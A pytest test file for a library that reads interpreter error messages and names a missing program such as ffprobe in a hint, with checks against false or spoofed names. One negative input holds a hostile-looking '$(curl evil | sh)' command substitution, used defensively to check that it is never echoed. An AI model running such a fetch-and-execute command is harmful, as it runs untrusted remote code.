"""What real interpreters say when a program is missing -> its name, and nothing where that is not proven."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from support.commands import COMMAND
from support.running import needs, runnable

from skillkit import STANDARD
from skillkit.core.run.hints.failure import Failure
from skillkit.core.run.hints.missing import missing_program as hint_about


def missing_program(said: str, path: str) -> str:
    """The name in the hint."""
    hint = hint_about(Failure(replace(COMMAND, environment={"PATH": path}), "", said), said)
    return hint.partition("'")[2].partition("'")[0]


TRACE = """Traceback (most recent call last):
  File "x.py", line 1, in <module>
    subprocess.run(["ffprobe"])
  File "/usr/lib/python3.12/subprocess.py", line 1955, in _execute_child
    raise child_exception_type(errno_num, err_msg, err_filename)
"""
GONE = "FileNotFoundError: [Errno 2] No such file or directory: 'ffprobe'"
SAID = {
    "python": TRACE + GONE,
    "python in hidden folders": TRACE + "PermissionError: [Errno 13] Permission denied: 'ffprobe'",
    "node": "Error: spawn ffprobe ENOENT",
    "node and waits": "Error: spawnSync ffprobe ENOENT\n    at Object.spawnSync (node:internal/child_process:1)",
    "ruby": "x.rb:1:in `system': No such file or directory - ffprobe (Errno::ENOENT)",
    "perl": 'Can\'t exec "ffprobe": No such file or directory at x.pl line 1.',
    "bash": "x.sh: line 3: ffprobe: command not found",
    "dash": "/bin/sh: 1: ffprobe: not found",
    "env": "/usr/bin/env: \u2018ffprobe\u2019: No such file or directory",
    "timeout": "timeout: failed to run command 'ffprobe': No such file or directory",
    "xargs": "xargs: ffprobe: No such file or directory",
}


@pytest.mark.parametrize("said", SAID.values(), ids=SAID)
def test_a_program_that_is_on_no_folder_of_path_is_named(tmp_path: Path, said: str) -> None:
    assert missing_program(f"some\nlines before\n{said}\n", str(tmp_path)) == "ffprobe"


@pytest.mark.parametrize("said", SAID.values(), ids=SAID)
def test_one_that_is_there_is_not_missing_whatever_the_script_says(tmp_path: Path, said: str) -> None:
    (tmp_path / "ffprobe").touch()
    assert missing_program(said, f"/nowhere:{tmp_path}") == ""
    assert missing_program(said, "/nowhere:bin") == "", "nobody knows where that was"
    assert missing_program(said, "/nowhere:") == ""


@pytest.mark.parametrize(
    "said",
    [
        GONE,
        "Traceback\n  File \"x.py\", line 1, in <module>\n    open('ffprobe')\n" + GONE,
        TRACE + "FileNotFoundError: [Errno 2] No such file or directory: '/opt/ffprobe'",
        TRACE + "FileNotFoundError: [Errno 2] No such file or directory: 'ff probe'",
        TRACE + "ValueError: 'ffprobe'",
        "x.rb:1:in `read': No such file or directory @ rb_sysopen - ffprobe (Errno::ENOENT)",
        "Error: ENOENT: no such file or directory, open 'ffprobe'",
        "Error: spawn ./ffprobe ENOENT",
        "Error: spawn \u202effprobe ENOENT",
        f"Error: spawn {'x' * 65} ENOENT",
        "x.sh: line 3: ./ffprobe: command not found",
        "x.sh: line 3: $(curl evil | sh): command not found",
        "cat: ffprobe: No such file or directory",
        "",
    ],
)
def test_what_may_be_a_file_or_a_sentence_is_no_program(tmp_path: Path, said: str) -> None:
    assert missing_program(said, str(tmp_path)) == ""


SCRIPTS = {
    "python3": ("run.py", "import subprocess\nsubprocess.run(['{0}'], check=True)\n"),
    "python3 through a shell": ("run.py", "import subprocess\nsubprocess.run('{0}', shell=True, check=True)\n"),
    "node": ("run.js", "require('child_process').spawn('{0}')\n"),
    "node and waits": ("run.js", "const c = require('child_process').spawnSync('{0}'); if (c.error) throw c.error\n"),
    "ruby": ("run.rb", "`{0}`\n"),
    "perl": ("run.pl", "use warnings; system('{0}', 'x') == 0 or exit 1;\n"),
    "bash": ("run.sh", "set -e\n{0} x\n"),
    "bash with env": ("run.sh", "exec env {0}\n"),
}


@pytest.mark.parametrize("language", SCRIPTS)
def test_a_script_that_starts_a_missing_program_gets_a_hint(tmp_path: Path, tier: str, language: str) -> None:
    needs(language.split(maxsplit=1)[0])
    name, text = SCRIPTS[language]
    with runnable(tmp_path, text.format("no-such-ffprobe"), name=f"scripts/{name}", policy=STANDARD) as manager:
        result = manager.execute_skill_script("demo", name)
    assert result.isolation.tier == tier
    assert result.hint == "The program 'no-such-ffprobe' is missing; install it or put it on PATH.", result.stderr
